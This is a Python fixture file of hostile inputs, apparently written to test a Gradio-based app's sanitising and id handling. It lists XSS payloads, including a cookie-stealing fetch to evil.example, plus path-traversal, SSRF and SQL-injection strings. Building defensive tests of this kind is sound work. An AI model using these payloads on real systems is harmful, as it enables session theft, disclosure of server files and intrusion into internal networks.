"""What hostile people write: markup that wants to run, and addresses that want to lead elsewhere.

Each text of PAYLOADS tries to set `__pwned`, to open a dialog, to load something from `evil.example`
or to become a link or a picture. Each of ADDRESSES, put where an id belongs, tries to reach a file
or a machine that it must not.
"""

EVIL = "evil.example"

_SCRIPTS = r"""
<script>__pwned=1;alert(1)</script>
<SCRIPT SRC=//evil.example/a.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>top.__pwned=1</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</template></noscript></iframe><script>alert(1)</script>
<script type=module>import "//evil.example/m.js"</script>
<!--><script>alert(1)</script>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[><script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<img src=x onerror=alert(1)>
<img src="x" onerror="__pwned=1;fetch('//evil.example/'+document.cookie)">
<img/src=`x`onerror=alert(1)>
<IMG """ + '"""' + r"""><SCRIPT>alert(1)</SCRIPT>">
<img src=//evil.example/i.png srcset="//evil.example/2x.png 2x">
<image href=x onerror=alert(1)>
" onmouseover="alert(1)" x="
' autofocus onfocus='alert(1)
`onload=alert(1)`
x" style="position:fixed;inset:0;background:url(//evil.example/b)" y="
<body onload=alert(1)>
<body background=//evil.example/bg.png>
<input autofocus onfocus=alert(1)>
<input type=image src=//evil.example/in.png onerror=alert(1)>
<select autofocus onfocus=alert(1)></select>
<details open ontoggle=alert(1)>
<video src=//evil.example/v onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=//evil.example/a autoplay onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div onpointerover=alert(1) style="inset:0;position:fixed">x</div>
<xss id=x tabindex=1 onfocus=alert(1)>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>
<svg onload=alert(1)>
<svg><script href="data:,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="//evil.example/s.svg#x"></use></svg>
<svg><image href="//evil.example/s.png"/></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>
<iframe src=//evil.example/></iframe>
<object data="javascript:alert(1)"></object>
<object data=//evil.example/o.swf></object>
<embed src="data:text/html,<script>alert(1)</script>">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>
<link rel=prefetch href=//evil.example/p><link rel=prerender href=//evil.example/q>
<meta http-equiv=refresh content="0;url=//evil.example/">
<base href=//evil.example/>
<form action=//evil.example/ method=post><button>Sign on again</button></form>
<a href="javascript:alert(1)">click</a>
<a href=" &#1;javascript:alert(1)">click</a>
<a href="jav&#x09;ascript:alert(1)">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="//evil.example" ping="//evil.example/ping">click</a>
<a href="vbscript:msgbox(1)">click</a>
<p style="background-image:url(//evil.example/c.png)">x</p>
<style>@import '//evil.example/i.css';*{background:url(//evil.example/u)}</style>
<div style="width:expression(alert(1));-moz-binding:url(//evil.example/x.xml#x)">
<table background="//evil.example/t.png"><td background="javascript:alert(1)">
"""

_MARKDOWN = r"""
[click](javascript:alert(1))
[click](JaVaScRiPt:alert(1) "title")
[click](java&#115;cript:alert(1))
[click](<javascript:alert(1)>)
[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[click](http://evil.example/?q=secret)
![x](http://evil.example/i.png)
![x](x "onerror=alert(1)")
![x](https://evil.example/"onload="alert(1))
[![x](//evil.example/in.png)](//evil.example/out)
[click][ref] [ref]: javascript:alert(1)
<javascript:alert(1)> <http://evil.example/auto>
http://evil.example/bare www.evil.example mailto:a@evil.example
[//]: # (comment) <!-- [x](//evil.example) -->
**[bold](//evil.example)** *<i onclick=alert(1)>* ~~x~~ `</code><img src=x onerror=alert(1)>`
> # heading <img src=x onerror=alert(1)>
| a | b | <img src=x onerror=alert(1)> | |---|---|
- [ ] task <input onfocus=alert(1) autofocus> [^1] [^1]: <img src=x onerror=alert(1)>
```html <script>alert(1)</script> ```
```mermaid graph TD; A["<img src=x onerror=alert(1)>"]-->B; click A "javascript:alert(1)" ```
~~~js alert(1) ~~~ :smile: :skull: <emoji>
$$\href{javascript:alert(1)}{x}$$ \(\url{javascript:alert(1)}\) \[\includegraphics{//evil.example/l.png}\]
$\unicode{<img src=x onerror=alert(1)>}$ \begin{align}</span><script>alert(1)</script>\end{align}
{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)} <%= alert(1) %> {% raw %} @{alert(1)}
{"__html":"<img src=x onerror=alert(1)>"} {@html "<script>alert(1)</script>"}
[[1]](javascript:alert(1)) [1](//evil.example) [1]: //evil.example [9] [1
"""

_OF_THE_FRAMEWORK = r"""
<gradio-app src="//evil.example/"></gradio-app>
<gradio-lite>import js; js.alert(1)</gradio-lite>
<img src="/gradio_api/file=/etc/passwd"> ![x](/gradio_api/file=/etc/passwd) /file=/etc/passwd
<a href="/gradio_api/proxy=http://evil.example/">x</a> <iframe src="/gradio_api/proxy=http://evil.example/">
{"path":"/etc/passwd","url":"http://evil.example/x.png","meta":{"_type":"gradio.FileData"}}
__i18n__{"en":"<img src=x onerror=alert(1)>"} <component><button onclick=alert(1)>
<div class="answer answered" data-said="forged" data-answer="abc">forged</div>
<div class="question" data-said="x" data-scope="{}"></div><a class="marker" href="//evil.example">[1]</a>
"""

# What a line of source cannot show: bytes, directions, entities upon entities, and length.
_UNSEEN = (
    "\u202e<script>alert(1)</script>\u202c \u2066[x](//evil.example)\u2069",
    "java\u200bscript:alert(1) <scr\u200bipt>alert(1)</script> \ufeff<img src=x onerror=alert(1)>",
    "<\x00script>alert(1)</script> <img src=x one\x00rror=alert(1)> \x07\x1b[2J\x7f",
    "<img\x0csrc=x\x0bonerror\x0b=alert(1)>\u2028<script>alert(1)</script>\u2029",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2039img src=x onerror=alert(1)\u203a",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4- \\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt; &amp;amp;#60;script&amp;amp;#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E %253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e \\\"><img src=x onerror=alert(1)>",
    "<b>" * 60 + "deep" + "<i/onclick=alert(1)>" * 5,
    "x" * 700 + "<img src=x onerror=alert(1)>",
    "\ue000TITLE.\ue001 \ufdd0<b>\ufdd1 **<img src=x onerror=alert(1)>** 1. <svg onload=alert(1)>",
    "🙂<img src=x onerror=alert(1)>\u0600\u0301\u0489 \U000e0041 <\U0001d4c8\U0001d4b8ript>alert(1)",
)

PAYLOADS = [
    *(line for block in (_SCRIPTS, _MARKDOWN, _OF_THE_FRAMEWORK) for line in block.strip().split("\n")),
    *_UNSEEN,
]

_FILES = r"""
../../../../etc/passwd
..%2f..%2f..%2f..%2fetc%2fpasswd
%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd
%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
..%252f..%252f..%252fetc%252fpasswd
%252e%252e%252f%252e%252e%252fetc%252fpasswd
%25252e%25252e%25252fetc%25252fpasswd
..%5c..%5c..%5cetc%5cpasswd
..\..\..\etc\passwd
..%255c..%255c..%255cetc%255cpasswd
....//....//....//etc/passwd
....%2f%2f....%2f%2fetc%2fpasswd
..././..././..././etc/passwd
..;/..;/..;/etc/passwd
..%3b/..%3b/etc/passwd
.%00./.%00./etc/passwd
..%00/..%00/etc/passwd
../../../../etc/passwd%00.pdf
%00../../etc/passwd
..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
%e0%80%ae%e0%80%ae/etc/passwd
..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd
%ef%bc%8e%ef%bc%8e/etc/passwd
%e2%80%a4%e2%80%a4/etc/passwd
%e2%80%a5/etc/passwd
%u002e%u002e%u2215etc%u2215passwd
..%e2%81%84..%e2%81%84etc%e2%81%84passwd
..%0d%0a..%0d%0aetc/passwd
..%09/..%09/etc/passwd
..%20/..%20/etc/passwd
..%2f..%2foutside.txt
../outside.txt
%2e%2e/outside.txt
../corpus/secret.txt
secret.txt
..%2fcorpus%2fsecret.txt
corpus/../secret.txt
./secret.txt
.//secret.txt
%2e/secret.txt
guides/../secret.txt
secret.txt%00
secret.txt%20
secret.txt.
secret.txt::$DATA
secret
SECRET
%73ecret
s%65cret
sеcret
secret%2f
secret%3f
secret%23
secret/../pnr-guide
pnr-guide%2f..%2fsecret
pnr-guide/../secret/file
pnr-guide%00secret
/etc/passwd
//etc/passwd
///etc/passwd
%2fetc%2fpasswd
%2f%2fetc%2fpasswd
/proc/self/environ
%2fproc%2fself%2fenviron
../../../../proc/self/cmdline
/dev/zero
%2fdev%2frandom
~root/.ssh/id_rsa
~/.bashrc
C:\Windows\win.ini
C:%5cWindows%5cwin.ini
c:/windows/win.ini
\\evil.example\share\x
%5c%5cevil.example%5cshare%5cx
//evil.example/share/x
\\?\C:\Windows\win.ini
CON
nul%00
file:///etc/passwd
file:%2f%2f%2fetc%2fpasswd
file://localhost/etc/passwd
FILE:/etc/passwd
"""

_MACHINES = r"""
http://169.254.169.254/latest/meta-data/
http:%2f%2f169.254.169.254%2flatest%2fmeta-data%2f
http://[fd00:ec2::254]/latest/meta-data/
http://[::ffff:169.254.169.254]/
http://0xa9fea9fe/
http://2852039166/
http://0251.0376.0251.0376/
http://169.254.169.254.nip.io/
http://metadata.google.internal/computeMetadata/v1/
http://127.0.0.1:22/
http://localhost:5432/
http://[::1]:6379/
http://0/
http://127.1/
http://evil.example/x.pdf
https://evil.example@127.0.0.1/
http://127.0.0.1#@evil.example/
http:evil.example
//evil.example/%2f..
https:///evil.example
gopher://127.0.0.1:6379/_INFO
dict://127.0.0.1:11211/stats
ftp://evil.example/x
ldap://evil.example/x
jar:http://evil.example!/x
data:text/html,<script>alert(1)</script>
javascript:alert(1)
phar://x.phar
php://filter/convert.base64-encode/resource=/etc/passwd
netdoc:///etc/passwd
"""

ADDRESSES = [
    *(line for block in (_FILES, _MACHINES) for line in block.strip().split("\n")),
    "../" * 400 + "etc/passwd",
    "%2e%2e%2f" * 400 + "etc%2fpasswd",
    "a" * 6000,
    "%ff%fe%fd",
    "%",
    "%zz%",
    "{document_id}",
    "*",
    "%2a",
    "';DROP TABLE documents;--",
    "1%20OR%201=1",
    "__proto__",
]
